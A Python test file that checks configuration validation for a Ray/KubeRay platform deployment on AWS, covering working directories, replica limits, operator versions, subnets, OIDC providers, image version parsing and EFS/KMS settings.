def test_working_dir_local_directory_is_accepted(tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "job.py").write_text("print('hi')\n")
    settings = _load("dev", _set("ray.runtimeEnv.working_dir", "code"), base_dir=tmp_path)
    assert settings.ray.runtime_env["working_dir"] == "code"


def test_working_dir_zip_in_bucket_is_accepted() -> None:
    settings = _load("dev", _set("ray.runtimeEnv.working_dir", "s3://bucket/ray/dev/code.zip"))
    assert settings.ray.runtime_env["working_dir"].endswith(".zip")


def test_bad_setting_stops_program_before_any_resource() -> None:
    config = copy.deepcopy(stack_config("dev"))
    _ray(config)["workerGroups"][0]["minReplicas"] = 9
    mocks = PlatformMocks()
    monitor = RecordingMonitor(mocks)
    with pytest.raises(SettingsError, match=r"workerGroups\[0\]\.maxReplicas"):
        run_program("dev", config, mocks=mocks, monitor=monitor)
    assert monitor.registered_resources == []


def test_unfetchable_operator_version_is_a_settings_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def missing(version: str) -> str:
        raise ReleaseError(f"cannot fetch KubeRay v{version} CRDs from the Go module proxy (404)")

    monkeypatch.setattr("infra.kuberay_release.crd_yaml", missing)
    monitor = RecordingMonitor(PlatformMocks())
    with pytest.raises(SettingsError) as info:
        run_program("dev", monitor=monitor)
    assert str(info.value).startswith('ray-platform:operator.version ("1.6.1") is not a KubeRay')
    assert monitor.registered_resources == []


class _NoPrivateSubnets(PlatformMocks):
    def call(self, args: Any) -> Any:
        result: Any = super().call(args)
        if args.token == "aws:ec2/getSubnets:getSubnets":
            result["ids"] = []
        return result


class _NoOidcProvider(PlatformMocks):
    def call(self, args: Any) -> Any:
        if args.token == "aws:iam/getOpenIdConnectProvider:getOpenIdConnectProvider":
            raise Exception("NotFound: OpenIDConnect Provider not found")
        return super().call(args)


@pytest.mark.parametrize(
    ("mocks", "expected"),
    [
        (
            _NoPrivateSubnets,
            'ray-platform:aws.clusterName ("ml-dev") has no subnets',
        ),
        (
            _NoOidcProvider,
            'ray-platform:aws.clusterName ("ml-dev") has no IAM OIDC provider',
        ),
    ],
)
def test_cluster_problems_stop_before_any_resource(mocks: type, expected: str) -> None:
    monitor = RecordingMonitor(mocks())
    with pytest.raises(SettingsError) as info:
        run_program("dev", mocks=monitor.mocks, monitor=monitor)  # type: ignore[arg-type]
    assert str(info.value).startswith(expected)
    assert "\n" not in str(info.value)
    assert monitor.registered_resources == []


@pytest.mark.parametrize(
    ("image", "version"),
    [
        ("rayproject/ray:2.52.0-py311", "2.52.0"),
        ("rayproject/ray:2.52.0", "2.52.0"),
        ("rayproject/ray-ml:2.52.0-py311-gpu", "2.52.0"),
        ("registry:5000/team/app:v3-ray2.52.1@sha256:" + "0" * 64, "2.52.1"),
        ("registry:5000/team/app@sha256:" + "0" * 64, None),
        ("rayproject/ray", None),
    ],
)
def test_image_ray_version(image: str, version: str | None) -> None:
    assert image_ray_version(image) == version


@pytest.mark.parametrize(
    ("efs", "expected"),
    [
        (
            {"subnetIds": ["subnet-0other0000000001"]},
            'ray-platform:aws.efs.subnetIds (["subnet-0other0000000001"]) has '
            "subnet-0other0000000001, not a subnet of the cluster's VPC",
        ),
        (
            {"subnetIds": ["subnet-0priv2a0000000001", "subnet-0priv2a0000000002"]},
            "has two subnets in us-west-2a; EFS allows one mount target per zone",
        ),
        (
            {"kmsKeyArn": "arn:aws:kms:us-west-2:123456789012:alias/missing"},
            'ray-platform:aws.efs.kmsKeyArn ("arn:aws:kms:us-west-2:123456789012:alias/missing") '
            "is an alias, which a key rotation can re-point, and a file system's key cannot "
            "change without replacing it: set the key ARN instead (aws kms describe-key "
            "--key-id alias/missing --query KeyMetadata.Arn)",
        ),
        (
            {"kmsKeyArn": "arn:aws:kms:us-west-2:123456789012:alias/ray-efs"},
            "set the key ARN instead (it names arn:aws:kms:us-west-2:123456789012:"
            "key/5c1d0000-aaaa-bbbb-cccc-000000000000 now)",
        ),
    ],
)
def test_efs_lookup_problems_stop_before_any_resource(efs: dict[str, Any], expected: str) -> None:
    config = copy.deepcopy(stack_config("dev"))
    config["ray-platform:aws"]["efs"] = efs
    monitor = RecordingMonitor(PlatformMocks())
    with pytest.raises(SettingsError) as info:
        run_program("dev", config, monitor=monitor)
    assert expected in str(info.value) and "\n" not in str(info.value)
    assert monitor.registered_resources == []
